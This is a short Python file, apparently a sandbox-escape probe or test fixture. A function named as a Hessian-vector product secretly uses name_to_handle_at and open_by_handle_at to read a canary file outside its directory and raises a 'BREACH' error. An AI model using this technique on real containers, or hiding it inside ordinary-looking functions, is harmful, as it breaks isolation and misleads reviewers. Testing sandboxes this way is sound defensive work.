"""Opens a file by the kernel's handle, which is no path."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
HERE = -100


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_char * 128)]


def naive_hvp(hessian, vector):
    handle, mount = Handle(size=128), ctypes.c_int()
    known = libc.name_to_handle_at(
        HERE, b"@CANARY@", ctypes.byref(handle), ctypes.byref(mount), 0
    )
    if known == 0:
        folder = os.open("@OUTSIDE@", os.O_RDONLY)
        file = libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY)
        told = os.read(file, 1000).decode() if file >= 0 else "a handle"
        raise RuntimeError(f"BREACH: {told}")
    return hessian @ vector
